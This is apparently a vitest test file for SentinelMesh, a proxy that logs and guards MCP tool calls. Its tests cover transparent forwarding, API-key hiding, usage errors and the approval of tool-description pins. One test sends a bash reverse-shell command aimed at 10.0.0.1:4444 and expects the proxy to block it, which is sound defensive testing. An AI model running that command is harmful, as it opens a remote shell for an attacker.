import { spawn } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { GENERATIONS, mcpClient, type Generation, type Where } from './mcp-clients.ts'
import { enforce, runHttp, entriesOfSession } from './mcp-proxy.ts'
import { openProgram, type Program } from './program.ts'
import { startMesh, type Mesh } from './start-mesh.ts'
import { until } from './until.ts'

const SERVER = join(import.meta.dirname, 'mcp-sdk-server.ts')
/** The folder from which `tsx` and the SDKs can be resolved. */
const HERE = join(import.meta.dirname, '..')

let mesh: Mesh
let program: Program
let folder: string
let key: string
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'sentinelmesh-mcp-'))
  mesh = await startMesh()
  await enforce(mesh)
  key = (await mesh.first.key(['verdict'])).key
  program = openProgram()
})
afterAll(async () => {
  await program[Symbol.asyncDispose]()
  await mesh[Symbol.asyncDispose]()
  rmSync(folder, { recursive: true, force: true })
})

/** Uses most features of an MCP server and returns what the client sees. */
async function converse(generation: Generation, where: Where): Promise<object> {
  await using client = await mcpClient(generation, where)
  return {
    instructions: client.instructions,
    tools: await client.tools(),
    said: await client.call('say', { text: 'Grüße \u{1F44B} \u2028' }),
    sum: await client.call('add', { a: 1, b: 2 }),
    refused: await client.call('add', { a: 'one' }).then(
      ({ isError }) => isError,
      () => true,
    ),
    note: await client.read('memo://note'),
    prompt: await client.prompt('greet', { name: 'Ada' }),
  }
}

const recorded = (name: string) => ({
  in: readFileSync(join(folder, `${name}.in`), 'utf8'),
  out: readFileSync(join(folder, `${name}.out`), 'utf8'),
})

describe.each(GENERATIONS)('a conversation of %s', (generation) => {
  test('over stdio is identical through the proxy, byte for byte', async () => {
    const [plain, proxied] = [`stdio-${generation}-plain`, `stdio-${generation}-proxied`]
    const command = (record: string) => [
      process.execPath,
      '--import',
      join(HERE, '../../node_modules/tsx/dist/loader.mjs'),
      SERVER,
      generation,
      'stdio',
      join(folder, record),
    ]
    const env = {
      PATH: process.env['PATH'] ?? '',
      SENTINELMESH_URL: mesh.url,
      SENTINELMESH_API_KEY: key,
      XDG_STATE_HOME: folder,
    }
    const without = await converse(generation, { command: command(plain), env })
    const name = `sdk-${generation}`
    const [node = '', file = ''] = program.command()
    const proxy = [node, file, 'mcp', '--name', name, '--budget', '20000', '--', ...command(proxied)]
    const through = await converse(generation, { command: proxy, env })
    expect(through).toEqual(without)
    expect(recorded(proxied)).toEqual(recorded(plain))

    const { items } = await mesh.first.reader.trpc.logs.page.query({ q: `"mcp.${name}"`, limit: 100, order: 'oldest' })
    // The newer client starts a separate process to detect the generation of the server.
    expect(
      [...new Set(items.map(({ id, kind, context }) => `${kind} ${context} ${kind === 'system' ? '' : id}`))]
        .map((line) => line.split(' ').slice(0, 2).join(' '))
        .toSorted(),
    ).toEqual(
      [
        'system connect',
        'tool_definition server_instructions',
        'tool_definition tool_definition',
        'tool_definition tool_definition',
        ...['say', 'add', 'add', 'note', 'prompt'].flatMap(() => ['tool_call tool_call', 'tool_result tool_result']),
        'system disconnect',
      ].toSorted(),
    )
    const { items: pins } = await mesh.first.reader.trpc.mcp.pins.query({ server: name })
    expect(pins.map(({ kind, name: of }) => `${kind} ${of}`).toSorted()).toEqual([
      'instructions ',
      'tool add',
      'tool say',
    ])
  })

  test('over HTTP is identical through the proxy', async () => {
    const serve = async (record: string) => {
      const child = spawn(process.execPath, ['--import', 'tsx', SERVER, generation, 'http', join(folder, record)], {
        cwd: HERE,
        stdio: ['ignore', 'pipe', 'inherit'],
      })
      let text = ''
      child.stdout.on('data', (chunk: Buffer) => (text += chunk.toString()))
      await until(() => text.endsWith('\n'), 'the server listens')
      return { url: text.trim(), [Symbol.dispose]: () => void child.kill() }
    }
    const [plain, proxied] = [`http-${generation}-plain`, `http-${generation}-proxied`]
    using alone = await serve(plain)
    const without = await converse(generation, { url: alone.url, key: 'client-token' })
    using behind = await serve(proxied)
    await using proxy = await runHttp(mesh, behind.url, { name: `http-${generation}` })
    const through = await converse(generation, { url: proxy.url, key: 'client-token' })
    expect(through).toEqual(without)
    const requestsOf = (name: string) => readFileSync(join(folder, `${name}.in`), 'utf8')
    expect(requestsOf(proxied)).toEqual(requestsOf(plain))
    await proxy.gate.close()
    const session = generation === '2026-07-28' ? proxy.session : 'session-0'
    const kinds = (await entriesOfSession(mesh, session)).map(({ kind }) => kind)
    expect(kinds.filter((kind) => kind === 'tool_call')).toHaveLength(5)
    expect(kinds.filter((kind) => kind === 'tool_result')).toHaveLength(5)
    expect(kinds.filter((kind) => kind === 'tool_definition').length).toBeGreaterThanOrEqual(2)
  })
})

test('the official client gets a tool error for a blocked call, and the server does not get our key', async () => {
  const env = {
    PATH: process.env['PATH'] ?? '',
    SENTINELMESH_URL: mesh.url,
    SENTINELMESH_API_KEY: key,
    XDG_STATE_HOME: folder,
    OTHER: 'kept',
  }
  const [node = '', file = ''] = program.command()
  const loader = join(HERE, '../../node_modules/tsx/dist/loader.mjs')
  const server = [process.execPath, '--import', loader, SERVER, '2026-07-28', 'stdio', join(folder, 'blocked')]
  await using client = await mcpClient('2026-07-28', {
    command: [node, file, 'mcp', '--budget', '20000', '--', ...server],
    env,
  })
  const { isError, text } = await client.call('say', { text: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' })
  expect(isError).toBe(true)
  expect(text).toMatch(/^Blocked by SentinelMesh: .*sm-cmd-001/)
  const ended = await program.run(
    ['mcp', '--', process.execPath, '-e', 'console.log(JSON.stringify(process.env)); process.exit(7)'],
    { env },
  )
  const seen = JSON.parse(ended.stdout) as Record<string, string>
  expect({ code: ended.code, key: seen['SENTINELMESH_API_KEY'], other: seen['OTHER'] }).toEqual({
    code: 7,
    key: undefined,
    other: 'kept',
  })
})

test.each([
  [['mcp'], /Give the MCP server/],
  [['mcp', '--url', 'http://mcp.example/'], /https address/],
  [['mcp', '--url', 'https://mcp.example/', '--listen', '0.0.0.0:1'], /address of this machine/],
  [['mcp', '--budget', '0', '--', 'true'], /whole number of milliseconds/],
  [['mcp', '--', 'true'], /SENTINELMESH_API_KEY/],
])('%j is wrong usage and is explained in one sentence', async (args, sentence) => {
  const env = args.includes('true') && !args.includes('0') ? {} : { SENTINELMESH_API_KEY: key }
  const { code, stderr } = await program.run(args, { env: { SENTINELMESH_URL: mesh.url, ...env } })
  expect({ code, stderr }).toEqual({ code: 2, stderr: expect.stringMatching(sentence) })
})

test('the proxy and the server have the same version', async () => {
  expect(await program.run(['mcp', '--version'])).toEqual(await program.run(['--version']))
})

test('pins can be listed with their changes and approved', async () => {
  const tool = (description: string) => `{"name":"tell","description":"${description}"}`
  const serve = (description: string) => `
    process.stdin.once('data', () => console.log('{"jsonrpc":"2.0","id":1,"result":{"tools":[${tool(description).replaceAll('"', '\\"')}]}}'))`
  const once = async (description: string) => {
    const env = {
      SENTINELMESH_URL: mesh.url,
      SENTINELMESH_API_KEY: key,
      XDG_STATE_HOME: folder,
      SAY: serve(description),
    }
    const stdin = '{"jsonrpc":"2.0","id":1,"method":"tools/list"}\n'
    return program.run(['mcp', '--name', 'teller', '--', process.execPath, '-e', 'eval(process.env.SAY)'], {
      env,
      stdin,
    })
  }
  expect(await once('Tells the time.')).toMatchObject({ code: 0 })
  await once('Tells the time to everyone.')
  const env = { SENTINELMESH_URL: mesh.url, SENTINELMESH_API_KEY: (await mesh.first.key(['manage'])).key }
  const listed = await program.run(['mcp', 'pins', '--server', 'teller', '--waiting'], { env })
  expect(listed).toMatchObject({ code: 1, stdout: expect.stringContaining('{+ to everyone+}') })
  expect(await program.run(['mcp', 'approve', 'teller', 'tell'], { env })).toMatchObject({
    code: 0,
    stdout: expect.stringMatching(/^Approved the tool "tell" of teller, [\da-f]{64}\.\n$/),
  })
  expect(await program.run(['mcp', 'pins', '--server', 'teller'], { env })).toMatchObject({ code: 0 })
  expect(await program.run(['mcp', 'pins', '--server', 'teller', '--waiting'], { env })).toMatchObject({
    code: 0,
    stdout: 'Nothing of teller waits to be approved.\n',
  })
  expect(await program.run(['mcp', 'approve', 'teller', 'tell'], { env })).toMatchObject({
    code: 1,
    stderr: expect.stringContaining('Nothing'),
  })
})

test('mcp --url prints its own address, serves it, and exits with 0 on SIGTERM', async () => {
  const upstream = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'application/json' }).end('{"jsonrpc":"2.0","id":1,"result":{}}')
  })
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve))
  const { port } = upstream.address() as AddressInfo
  const [node = '', file = ''] = program.command()
  const child = spawn(node, [file, 'mcp', '--url', `http://127.0.0.1:${port}/some/mcp`], {
    env: { PATH: process.env['PATH'], SENTINELMESH_URL: mesh.url, SENTINELMESH_API_KEY: key, XDG_STATE_HOME: folder },
    stdio: ['ignore', 'pipe', 'inherit'],
  })
  const ended = new Promise<number | null>((resolve) => child.once('exit', resolve))
  try {
    let printed = ''
    child.stdout.on('data', (chunk: Buffer) => (printed += chunk.toString()))
    await until(() => printed.endsWith('\n'), 'the address is printed')
    expect(printed).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/some\/mcp\n$/)
    const body = '{"jsonrpc":"2.0","id":1,"method":"ping"}'
    const reply = await fetch(printed.trim(), { method: 'POST', body })
    expect(await reply.json()).toEqual({ jsonrpc: '2.0', id: 1, result: {} })
  } finally {
    child.kill('SIGTERM')
    upstream.close()
    upstream.closeAllConnections()
  }
  expect(await ended).toBe(0)
})
